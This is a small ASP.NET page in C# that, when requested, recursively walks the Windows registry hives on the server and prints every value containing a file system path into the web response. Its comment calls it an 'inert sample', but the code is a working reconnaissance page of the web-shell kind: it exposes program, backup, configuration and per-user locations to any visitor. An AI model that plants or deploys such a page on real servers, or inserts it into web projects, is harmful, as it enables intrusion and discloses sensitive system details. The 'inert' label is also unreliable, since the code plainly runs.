<%@ Page Language="C#" %>
<%@ Import Namespace="Microsoft.Win32" %>
<%@ Import Namespace="System.Collections.Generic" %>
<%
    // Inert sample: walks every hive it can open, key by key, and prints each value that looks
    // like a file system path (where programs, backups and configuration live).
    var pending = new Queue<RegistryKey>();
    pending.Enqueue(Registry.LocalMachine);
    pending.Enqueue(Registry.CurrentUser);
    pending.Enqueue(Registry.Users);
    pending.Enqueue(Registry.ClassesRoot);
    while (pending.Count > 0)
    {
        RegistryKey key = pending.Dequeue();
        if (key == null) continue;
        try
        {
            foreach (string v in key.GetValueNames())
            {
                object data = key.GetValue(v);
                if (data != null && data.ToString().Contains(":\\"))
                    Response.Write(key.Name + " = " + Server.HtmlEncode(data.ToString()) + "<br>");
            }
            foreach (string sub in key.GetSubKeyNames())
            {
                try { pending.Enqueue(key.OpenSubKey(sub)); } catch { }
            }
        }
        catch { }
    }
%>
